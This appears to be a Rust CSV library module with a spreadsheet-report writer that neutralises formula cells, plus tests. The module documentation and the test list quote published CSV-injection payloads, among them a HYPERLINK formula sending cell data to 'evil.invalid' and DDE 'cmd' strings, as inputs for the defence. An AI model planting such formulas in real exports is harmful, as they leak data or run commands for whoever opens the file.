//! A small RFC 4180 CSV reader and writer.
//!
//! Written here rather than taken from a crate: the format is a page long, the ledger form
//! needs the line and column of every field for its error messages, and the workspace keeps
//! its dependency list short. What it accepts, beyond RFC 4180:
//!
//! - records end with CRLF or a lone LF (spreadsheets on Unix write LF); a final line ending is
//!   optional;
//! - a UTF-8 byte-order mark at the very start is skipped;
//! - a record whose fields are all empty (a blank line) is skipped.
//!
//! What it refuses, with the line and column: a quote inside an unquoted field, text after a
//! closing quote, a quoted field that is never closed, more fields or records than the limits
//! allow. The writer quotes a field when it holds a comma, a quote, CR or LF, or starts or ends
//! with a space, and ends every record with CRLF, so `read(write(rows)) == rows` for rows
//! without blank records.
//!
//! # Reports for spreadsheets: formula cells neutralised
//!
//! [`write_record`] keeps every field as it is: it writes data that is read back (the ledger's
//! CSV form). A *report* opened in a spreadsheet is another matter: a cell that starts with `=`,
//! `+`, `-`, `@`, a tab or a carriage return is taken as a formula (CSV injection: an asset name
//! `=HYPERLINK("http://evil/?"&A1,"x")` or `@SUM(1+1)*cmd|' /C calc'!A0` runs when the report is
//! opened). [`write_report_record`] writes such a cell the way OWASP's *CSV Injection* page
//! recommends: a single quote before it and the whole cell quoted (`"'=HYPERLINK(…)"`), so the
//! spreadsheet shows the text and runs nothing. Exactly which cells ([`neutralise_formula`]):
//!
//! - a cell whose first character is one of [`FORMULA_TRIGGERS`]: `=`, `+`, `-`, `@`, tab, CR,
//!   and their full-width forms `＝`, `＋`, `－`, `＠` (some spreadsheets accept those as well);
//! - except a plain negative decimal number, `-` then digits with at most one `.` between
//!   digits (`-3`, `-0.25`): a spreadsheet reads it as the number, it cannot call anything,
//!   and a report's figures stay numbers. `-2+3`, `-1e3`, `--1` or `- 1` are neutralised.
//!
//! A report field is also quoted when it holds `;` or a tab (besides the RFC 4180 reasons), so
//! a spreadsheet that splits on those does not start a new cell — with a trigger at its start —
//! in the middle of a field. Reading such a report back as data gives the cell with its leading
//! `'`.

use crate::diag::TextPos;

/// Limits on what [`read`] accepts, so hostile input cannot exhaust memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Most bytes of input.
    pub max_bytes: usize,
    /// Most records (including the header).
    pub max_records: usize,
    /// Most fields in one record.
    pub max_fields: usize,
}

impl Default for Limits {
    /// 256 MiB, 4 million records, 256 fields.
    fn default() -> Self {
        Self {
            max_bytes: 256 << 20,
            max_records: 4_000_000,
            max_fields: 256,
        }
    }
}

/// One field as read: its text (quotes removed, `""` unescaped) and where it starts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Field {
    /// The field's value.
    pub text: String,
    /// Line and column (in characters) of the field's first character.
    pub pos: TextPos,
}

/// Why a text is not CSV.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum CsvError {
    /// A `"` inside a field that did not start with one.
    #[error("line {}, column {}: quote inside an unquoted field", .0.line, .0.col)]
    QuoteInUnquotedField(TextPos),
    /// Something other than a comma or line end after a closing quote.
    #[error("line {}, column {}: text after the closing quote of a field", .0.line, .0.col)]
    TextAfterQuote(TextPos),
    /// The input ends inside a quoted field.
    #[error("line {}, column {}: quoted field is never closed", .0.line, .0.col)]
    UnclosedQuote(TextPos),
    /// The input is larger than [`Limits::max_bytes`].
    #[error("input of {size} bytes is larger than the limit of {limit}")]
    TooLarge {
        /// Input size in bytes.
        size: usize,
        /// The limit.
        limit: usize,
    },
    /// More records than [`Limits::max_records`].
    #[error("line {line}: more than {limit} records")]
    TooManyRecords {
        /// Where the record over the limit starts.
        line: u32,
        /// The limit.
        limit: usize,
    },
    /// A record with more fields than [`Limits::max_fields`].
    #[error("line {line}: more than {limit} fields in one record")]
    TooManyFields {
        /// Where the record starts.
        line: u32,
        /// The limit.
        limit: usize,
    },
}

struct Cursor<'a> {
    chars: std::iter::Peekable<std::str::Chars<'a>>,
    line: u32,
    col: u32,
}

impl Cursor<'_> {
    fn pos(&self) -> TextPos {
        TextPos {
            line: self.line,
            col: self.col,
        }
    }

    fn peek(&mut self) -> Option<char> {
        self.chars.peek().copied()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.chars.next()?;
        if c == '\n' {
            self.line = self.line.saturating_add(1);
            self.col = 1;
        } else {
            self.col = self.col.saturating_add(1);
        }
        Some(c)
    }

    /// Consumes a line end (CRLF or LF) if one is next; a lone CR is a line end too.
    fn eat_line_end(&mut self) -> bool {
        match self.peek() {
            Some('\n') => {
                self.bump();
                true
            }
            Some('\r') => {
                self.bump();
                if self.peek() == Some('\n') {
                    self.bump();
                } else {
                    // A lone CR ends the record; count it as a new line.
                    self.line = self.line.saturating_add(1);
                    self.col = 1;
                }
                true
            }
            _ => false,
        }
    }
}

/// Reads every record of a CSV text (fields separated by commas). Blank records are skipped.
///
/// # Errors
/// A [`CsvError`] with the line and column where the text stops being CSV, or the limit
/// that was exceeded.
pub fn read(text: &str, limits: &Limits) -> Result<Vec<Vec<Field>>, CsvError> {
    read_delimited(text, ',', limits)
}

/// Reads every record of a text whose fields are separated by `delimiter` instead of a comma
/// (`;` in many European exports, a tab in TSV), quoted as RFC 4180 says. A delimiter of `"`,
/// CR or LF is taken as a comma.
///
/// # Errors
/// As [`read`].
pub fn read_delimited(
    text: &str,
    delimiter: char,
    limits: &Limits,
) -> Result<Vec<Vec<Field>>, CsvError> {
    let delimiter = if matches!(delimiter, '"' | '\r' | '\n') {
        ','
    } else {
        delimiter
    };
    if text.len() > limits.max_bytes {
        return Err(CsvError::TooLarge {
            size: text.len(),
            limit: limits.max_bytes,
        });
    }
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut cur = Cursor {
        chars: text.chars().peekable(),
        line: 1,
        col: 1,
    };
    let mut records = Vec::new();
    while cur.peek().is_some() {
        let record_line = cur.line;
        let mut record: Vec<Field> = Vec::new();
        let mut first_quoted = false;
        loop {
            if record.len() >= limits.max_fields {
                return Err(CsvError::TooManyFields {
                    line: record_line,
                    limit: limits.max_fields,
                });
            }
            let pos = cur.pos();
            let mut text = String::new();
            let quoted = cur.peek() == Some('"');
            if quoted {
                cur.bump();
                loop {
                    match cur.bump() {
                        None => return Err(CsvError::UnclosedQuote(pos)),
                        Some('"') if cur.peek() == Some('"') => {
                            cur.bump();
                            text.push('"');
                        }
                        Some('"') => break,
                        Some(c) => text.push(c),
                    }
                }
                match cur.peek() {
                    None | Some('\r' | '\n') => {}
                    Some(c) if c == delimiter => {}
                    Some(_) => return Err(CsvError::TextAfterQuote(cur.pos())),
                }
            } else {
                while let Some(c) = cur.peek() {
                    match c {
                        '\r' | '\n' => break,
                        c if c == delimiter => break,
                        '"' => return Err(CsvError::QuoteInUnquotedField(cur.pos())),
                        _ => {
                            text.push(c);
                            cur.bump();
                        }
                    }
                }
            }
            if record.is_empty() {
                first_quoted = quoted;
            }
            record.push(Field { text, pos });
            if cur.peek() == Some(delimiter) {
                cur.bump();
                continue;
            }
            cur.eat_line_end();
            break;
        }
        let blank = !first_quoted && matches!(record.as_slice(), [only] if only.text.is_empty());
        if blank {
            continue;
        }
        if records.len() >= limits.max_records {
            return Err(CsvError::TooManyRecords {
                line: record_line,
                limit: limits.max_records,
            });
        }
        records.push(record);
    }
    Ok(records)
}

/// Appends one field to `out`, quoted when it must be.
pub fn write_field(out: &mut String, field: &str) {
    let needs_quotes = field.contains([',', '"', '\r', '\n'])
        || field.starts_with(' ')
        || field.ends_with(' ')
        || field.starts_with('\u{feff}');
    if needs_quotes {
        out.push('"');
        for c in field.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    } else {
        out.push_str(field);
    }
}

/// The first characters that make a spreadsheet take a cell as a formula; see the module
/// documentation.
pub const FORMULA_TRIGGERS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// Whether `cell` is a plain negative decimal number: `-`, digits, optionally `.` and digits.
fn is_negative_decimal(cell: &str) -> bool {
    let Some(rest) = cell.strip_prefix('-') else {
        return false;
    };
    let (whole, fraction) = match rest.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (rest, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// Whether a spreadsheet would take `cell` as a formula: it starts with one of
/// [`FORMULA_TRIGGERS`] and is not a plain negative decimal number (`-12.5`).
#[must_use]
pub fn is_formula_like(cell: &str) -> bool {
    cell.starts_with(FORMULA_TRIGGERS) && !is_negative_decimal(cell)
}

/// The cell as a report for a spreadsheet holds it: with a `'` before it when it
/// [`is_formula_like`], else unchanged. [`write_report_field`] also quotes a changed cell.
#[must_use]
pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    if is_formula_like(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Appends one field of a report to `out`: [`neutralise_formula`]d, and quoted when it was
/// neutralised, when [`write_field`] would quote it, or when it holds `;` or a tab.
pub fn write_report_field(out: &mut String, field: &str) {
    let formula = is_formula_like(field);
    if formula || field.contains([';', '\t']) {
        out.push('"');
        if formula {
            out.push('\'');
        }
        for c in field.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    } else {
        write_field(out, field);
    }
}

/// Appends one record of a report to `out`, ended by CRLF: [`write_record`] with every field
/// written by [`write_report_field`].
pub fn write_report_record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    write_record_with(out, fields, write_report_field);
}

/// Appends one record to `out`, ended by CRLF.
pub fn write_record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    write_record_with(out, fields, write_field);
}

/// One record, each field written by `field`, the record ended by CRLF.
fn write_record_with<S: AsRef<str>>(out: &mut String, fields: &[S], field: fn(&mut String, &str)) {
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        field(out, f.as_ref());
    }
    // A record of one empty field would read back as a blank line; quote it.
    if let [only] = fields {
        if only.as_ref().is_empty() {
            out.push_str("\"\"");
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(input: &str) -> Vec<Vec<String>> {
        read(input, &Limits::default())
            .unwrap()
            .into_iter()
            .map(|r| r.into_iter().map(|f| f.text).collect())
            .collect()
    }

    #[test]
    fn reads_rfc_4180_quoting_and_line_ends() {
        let input = "\u{feff}a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\n\n1,,3";
        assert_eq!(
            texts(input),
            vec![
                vec!["a", "b", "c"],
                vec!["x, y", "say \"hi\"", "two\nlines"],
                vec!["1", "", "3"],
            ]
        );
    }

    #[test]
    fn positions_count_lines_and_characters() {
        let rows = read("é,b\n\"q\nr\",z", &Limits::default()).unwrap();
        assert_eq!(rows[0][1].pos, TextPos { line: 1, col: 3 });
        assert_eq!(rows[1][1].pos, TextPos { line: 3, col: 4 });
    }

    #[test]
    fn refuses_malformed_quoting_with_positions() {
        let l = Limits::default();
        assert_eq!(
            read("a,b\"c", &l),
            Err(CsvError::QuoteInUnquotedField(TextPos { line: 1, col: 4 }))
        );
        assert_eq!(
            read("a\n\"b\"x", &l),
            Err(CsvError::TextAfterQuote(TextPos { line: 2, col: 4 }))
        );
        assert_eq!(
            read("a,\"b", &l),
            Err(CsvError::UnclosedQuote(TextPos { line: 1, col: 3 }))
        );
        assert_eq!(
            read("a,\"b", &l).unwrap_err().to_string(),
            "line 1, column 3: quoted field is never closed"
        );
    }

    #[test]
    fn other_delimiters() {
        let rows = read_delimited("a;\"b;c\";d\r\n1,5;2", ';', &Limits::default()).unwrap();
        let texts: Vec<Vec<&str>> = rows
            .iter()
            .map(|r| r.iter().map(|f| f.text.as_str()).collect())
            .collect();
        assert_eq!(texts, vec![vec!["a", "b;c", "d"], vec!["1,5", "2"]]);
        assert_eq!(
            texts.len(),
            read_delimited("x\ny", '"', &Limits::default())
                .unwrap()
                .len()
        );
    }

    #[test]
    fn limits_are_enforced() {
        let tight = Limits {
            max_bytes: 10,
            max_records: 2,
            max_fields: 3,
        };
        assert!(matches!(
            read("0123456789ab", &tight),
            Err(CsvError::TooLarge { size: 12, .. })
        ));
        assert!(matches!(
            read("a,b,c,d", &tight),
            Err(CsvError::TooManyFields { line: 1, .. })
        ));
        assert!(matches!(
            read("a\nb\nc", &tight),
            Err(CsvError::TooManyRecords { line: 3, .. })
        ));
    }

    /// Cells from published CSV-injection payloads, each with what the report must hold.
    const ATTACKS: [(&str, &str); 12] = [
        (
            "=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"Click\")",
            "\"'=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"Click\"\")\"",
        ),
        (
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
        ),
        ("+cmd|' /C notepad'!'A1'", "\"'+cmd|' /C notepad'!'A1'\""),
        ("-2+3", "\"'-2+3\""),
        ("=1+2;=cmd|' /C calc'!A0", "\"'=1+2;=cmd|' /C calc'!A0\""),
        ("\t=1+1", "\"'\t=1+1\""),
        ("\r=1+1", "\"'\r=1+1\""),
        ("\u{ff1d}1+1", "\"'\u{ff1d}1+1\""),
        ("-1e3", "\"'-1e3\""),
        ("-", "\"'-\""),
        // Not formulas: a negative number stays a number, text with a trigger inside stays.
        ("-12.50", "-12.50"),
        ("a=b", "a=b"),
    ];

    #[test]
    fn report_cells_from_attack_strings_are_neutralised() {
        for (cell, expected) in ATTACKS {
            let mut out = String::new();
            write_report_field(&mut out, cell);
            assert_eq!(out, expected, "cell {cell:?}");
            // The report still parses, one field, the cell behind one quote when neutralised.
            let back = read(&format!("{out},x"), &Limits::default()).unwrap();
            assert_eq!(back.len(), 1);
            assert_eq!(back[0].len(), 2, "cell {cell:?} split");
            assert_eq!(back[0][0].text, neutralise_formula(cell));
            assert_eq!(back[0][0].text.starts_with('\''), is_formula_like(cell));
        }
    }

    #[test]
    fn negative_numbers_and_plain_text_are_left_alone() {
        for cell in ["-1", "-0.5", "-10", "0", "12.5", "abc", "", "'=x"] {
            assert!(!is_formula_like(cell), "{cell:?}");
            assert_eq!(neutralise_formula(cell), cell);
        }
        for cell in ["-.5", "-5.", "-1.2.3", "--1", "- 1", "+1", "=1", "@x", "-x"] {
            assert!(is_formula_like(cell), "{cell:?}");
        }
        // `;` and tab inside a field are quoted so no spreadsheet splits a cell there.
        let mut out = String::new();
        write_report_record(&mut out, &["a;b", "c\td", "e"]);
        assert_eq!(out, "\"a;b\",\"c\td\",e\r\n");
        // The data writer keeps cells as they are: the ledger form reads back unchanged.
        let mut data = String::new();
        write_record(&mut data, &["=1+1"]);
        assert_eq!(data, "=1+1\r\n");
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(200))]

        #[test]
        fn write_then_read_gives_the_rows_back(
            rows in proptest::collection::vec(
                proptest::collection::vec("[a-c ,\"\r\n€]{0,5}", 1..5), 0..6)
        ) {
            let mut out = String::new();
            for r in &rows {
                write_record(&mut out, r);
            }
            let back: Vec<Vec<String>> = read(&out, &Limits::default())
                .unwrap()
                .into_iter()
                .map(|r| r.into_iter().map(|f| f.text).collect())
                .collect();
            proptest::prop_assert_eq!(back, rows);
        }

        #[test]
        fn report_cells_never_start_a_formula(
            rows in proptest::collection::vec(
                proptest::collection::vec("[-=+@\t\r;,\"a1.]{0,6}", 1..5), 1..6)
        ) {
            let mut out = String::new();
            for r in &rows {
                write_report_record(&mut out, r);
            }
            let back = read(&out, &Limits::default()).unwrap();
            proptest::prop_assert_eq!(back.len(), rows.len());
            for (read_row, row) in back.iter().zip(&rows) {
                proptest::prop_assert_eq!(read_row.len(), row.len());
                for (f, cell) in read_row.iter().zip(row) {
                    proptest::prop_assert!(!is_formula_like(&f.text), "{:?}", f.text);
                    proptest::prop_assert_eq!(&f.text, &neutralise_formula(cell));
                }
            }
        }
    }
}
